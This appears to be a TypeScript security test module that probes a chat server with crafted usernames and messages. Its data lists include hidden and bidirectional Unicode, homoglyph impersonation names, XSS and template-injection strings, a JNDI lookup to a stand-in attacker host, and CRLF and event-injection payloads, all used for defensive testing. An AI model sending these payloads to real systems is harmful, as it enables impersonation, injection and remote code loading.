/** Names and texts that are not what they look like, or more than they look like. */
import { Buffer } from "node:buffer";
import { type Attack, trying } from "./attack.ts";
import { chat, frame, handshake, posting, request } from "./wire.ts";

/** What no name may have in it: it cannot be seen, or changes how others are seen. */
const UNSEEN = [
  "\0",
  "\r\n",
  "\n",
  "\t",
  "\x1b[31m",
  "\x7f",
  "\u0085",
  "\u00ad",
  "\u034f",
  "\u061c",
  "\u115f",
  "\u180e",
  "\u200b",
  "\u200e",
  "\u200f",
  "\u2028",
  "\u2029",
  "\u202a",
  "\u202b",
  "\u202d",
  "\u202e",
  "\u2060",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u3164",
  "\ufeff",
  "\uffa0",
  "\ufff9",
  "\ue000",
  "\u{e0041}",
  "\u{f0000}",
  "\ud800",
  "\ufffe",
  "q\u0301\u0302\u0303\u0304\u0305",
];
const NAMES = [
  "",
  " ",
  "@all",
  "#room",
  "\u0301x",
  "system",
  "SYSTEM",
  "ѕуѕtеm",
  "x".repeat(33),
  "é".repeat(200),
  "ﷺ".repeat(32),
  "..",
  "/",
  "a/b",
  "%00",
  "<img src=x>",
  "{}",
  "__proto__",
  "constructor",
  "null",
  ...UNSEEN.flatMap((
    character,
  ) => [character, `an${character}n`, `${character}ann`, `ann${character}`]),
];

/** Letters that look like others. */
const ALIKE: Record<string, string> = {
  a: "а",
  c: "с",
  o: "о",
  e: "е",
  p: "р",
  r: "г",
  d: "ԁ",
  l: "ӏ",
};

const CONTENTS = [
  "\n\nevent: evil\ndata: x",
  "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
  'x"}\n{"type":"welcome","username":"evil"}',
  "\x1b]0;evil\x07",
  "\u2028\u2029",
  "\u202eevil\u202c",
  "a\0b",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example}",
  "{{7*7}}",
  "\ud800",
  "\ufeff",
  "e" + "\u0301".repeat(3_000),
  "😀".repeat(4_001),
  "ﷺ".repeat(4_000),
  "\u0300".repeat(4_000),
];

export const texts: Attack[] = [
  trying("names that cannot be seen", NAMES, async (target, name) => {
    const query = new URLSearchParams({ username: name, room: "attic" });
    const { status } = await target.askWell(handshake(`/ws?${query}`), JSON.stringify(name));
    const posted = await target.askWell(
      posting(JSON.stringify({ username: name, content: "x" })),
      JSON.stringify(name),
    );
    // What only stands at an end is trimmed, and is no part of the name.
    const hidden = UNSEEN.some((character) =>
      name.trim().slice(1, -1).includes(character.trim() || "\0")
    );
    if (!hidden) return;
    // In an address half a character is another one.
    const sent = name.isWellFormed();
    target.expect(!sent || status !== 101, `${JSON.stringify(name)} is a name`);
    target.expect(posted.status !== 201, `${JSON.stringify(name)} is a name of who posts`);
  }),

  trying(
    "look-alikes of those who are there",
    Object.keys(ALIKE),
    async (target, letter) => {
      for (const name of target.known.names ?? []) {
        if (!name.includes(letter)) continue;
        const like = name.replace(letter, ALIKE[letter]!);
        const query = new URLSearchParams({ username: like });
        const { status } = await target.askWell(handshake(`/ws?${query}`), like);
        target.expect(status !== 101, `${JSON.stringify(like)} may pass for ${name}`);
        const body = JSON.stringify({ username: like, content: "x" });
        const posted = await target.askWell(posting(body), like);
        target.expect(posted.status !== 201, `${JSON.stringify(like)} may post as ${name}`);
      }
    },
  ),

  trying("texts that are more", CONTENTS, async (target, content) => {
    const room = `texts-${target.name()}`;
    const stream = await target.open();
    stream?.write(request(`GET /api/rooms/${room}/events HTTP/1.1`, ["Host: x"]));
    await target.askWell(
      posting(JSON.stringify({ username: target.name(), content }), [], room),
      "a text",
    );
    const heard = await target.tell(chat(content), { room }, ["Sec-WebSocket-Protocol: chat.v1"]);
    target.expect(
      !/^\{"type":"welcome","username":"evil/m.test(heard),
      "a text is told as a message",
    );
    if (!stream) return;
    const events = await target.hear(stream, 300);
    target.expect(!/^(event: ?evil|HTTP\/1.1 200 OK\r\n\r\n$)/m.test(events), "a text is an event");
    await target.close(stream);
  }),

  trying(
    "line breaks in everything",
    ["username", "room", "since", "inbox", "last"].flatMap((name) =>
      ["%0d%0aX-Evil:%201", "%0aX-Evil:1", "%e5%98%8a%e5%98%8dX-Evil:1"].map((text) => ({
        name,
        text,
      }))
    ),
    async (target, { name, text }) => {
      for (
        const path of [
          `/ws?username=${target.name()}&${name}=${text}`,
          `/api/rooms/attic/messages?${name}=${text}`,
          `/api/rooms/${text}/messages`,
          `/${text}`,
        ]
      ) {
        const { head } = await target.askWell(handshake(path), path);
        target.expect(!/^x-evil:/im.test(head), `${path} sets a header`);
      }
      const heard = await target.tell(frame(JSON.stringify({ type: "join", [name]: "a\r\nb" })));
      target.expect(!heard.includes("a\r\nb"), "a line break is repeated");
    },
  ),

  trying(
    "bytes that are no text",
    [[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0], [0x80], [0xf5, 0x80, 0x80, 0x80]],
    async (target, bytes) => {
      const odd = Buffer.from(bytes).toString("latin1");
      const body = Buffer.concat([
        request("POST /api/rooms/attic/messages HTTP/1.1", [
          "Host: x",
          `Content-Length: ${36 + odd.length}`,
        ]),
        Buffer.from(`{"username":"odd","content":"says ${odd}"}`, "latin1"),
      ]);
      await target.askWell(body, `the bytes ${bytes}`);
      const path = [...bytes].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
      await target.askWell(handshake(`/ws?username=${path}`), `the name ${path}`);
    },
  ),
];
